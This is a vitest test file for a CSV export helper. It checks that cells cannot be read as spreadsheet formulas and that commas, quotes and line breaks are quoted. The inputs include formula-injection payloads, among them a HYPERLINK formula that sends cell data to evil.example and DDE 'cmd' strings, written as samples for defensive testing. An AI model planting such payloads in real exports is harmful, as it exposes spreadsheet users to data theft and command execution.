import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { setFunctionEnv } from '../helpers/function-env';

setFunctionEnv();
const { csvCell } = await import('../../functions/kernel/csv');

/** Reads one cell back as a spreadsheet would before deciding whether it is a formula. */
const unquote = (cell: string) => (cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell);

describe('CSV export cells', () => {
  it.each(['=', '+', '-', '@', '\t', '\r'])('prefixes a cell starting with %j so it is never run as a formula', (lead) => {
    const payload = `${lead}HYPERLINK("https://evil.example/?"&A1,"Click")`;
    const read = unquote(csvCell(payload));
    expect(read).toBe(`'${payload}`);
  });

  it('neutralises the classic payloads: DDE, cmd, and a leading tab before =', () => {
    for (const payload of ["=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", '+1+1', '-2+3', '\t=1+1', '\r=1+1']) {
      expect(unquote(csvCell(payload))).toMatch(/^'/);
    }
  });

  it('leaves ordinary text and numbers as they are, negative numbers included', () => {
    expect(csvCell('Night Drive')).toBe('Night Drive');
    expect(csvCell(1500)).toBe('1500');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
  });

  it('quotes commas, quotes and line breaks so a cell cannot spill into the next one', () => {
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('line\nbreak')).toBe('"line\nbreak"');
  });

  it('never yields a cell a spreadsheet reads as starting with a formula character', () => {
    fc.assert(
      fc.property(fc.string(), (text) => {
        expect(unquote(csvCell(text))).not.toMatch(/^[=+\-@\t\r]/);
      }),
      { numRuns: 2000 },
    );
  });
});
